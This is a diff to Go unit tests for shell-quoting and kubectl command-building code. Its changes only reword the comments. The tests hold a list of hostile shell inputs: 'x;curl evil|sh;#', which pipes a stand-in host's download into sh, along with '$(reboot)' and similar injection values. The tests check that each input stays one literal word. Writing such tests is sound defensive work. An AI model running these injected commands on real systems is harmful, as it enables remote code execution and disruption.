@@ -7,12 +7,12 @@ import (
 	"testing"
 )
 
-// hostile are words that a shell would take for more than a word.
+// hostile are words that a shell would interpret.
 var hostile = []string{
 	"x;curl evil|sh;#", "$(reboot)", "`reboot`", "a b", "", "'", "'; reboot; '", `"`, `\`, "a\nreboot", "-", "*", "~", "!x", "x&", ">x", "#", "é", "{a,b}",
 }
 
-// TestK7Words: a shell takes each word of a command for that very word.
+// TestK7Words: a shell parses each word of a command as exactly that word.
 func TestK7Words(t *testing.T) {
 	said, err := exec.Command("sh", "-c", Command(append([]string{"printf", `%s\0`}, hostile...)...)).Output()
 	if got := strings.Split(strings.TrimSuffix(string(said), "\x00"), "\x00"); err != nil || !slices.Equal(got, hostile) {
@@ -20,7 +20,8 @@ func TestK7Words(t *testing.T) {
 	}
 }
 
-// TestK7Kubectl: flags that lead to the cluster are in their place, and no word nor the cluster's name is more than a word.
+// TestK7Kubectl: the flags that select the cluster are in the right place, and each word and the cluster's name stays one
+// word.
 func TestK7Kubectl(t *testing.T) {
 	for want, got := range map[string]string{
 		"kubectl --context east describe pv 'x;curl evil|sh;#'": Kubectl{Cluster: "east", Flags: "--context east"}.Do("describe", "pv", hostile[0]),
@@ -35,7 +36,7 @@ func TestK7Kubectl(t *testing.T) {
 	}
 }
 
-// TestK7Format: each word of a format is one word for a shell, whatever its values contain; a pipe leads into another command.
+// TestK7Format: each word of a format is one word for a shell, whatever its values contain. A pipe starts another command.
 func TestK7Format(t *testing.T) {
 	east := Kubectl{Cluster: "east", Flags: "--context east"}
 	for want, got := range map[string]string{
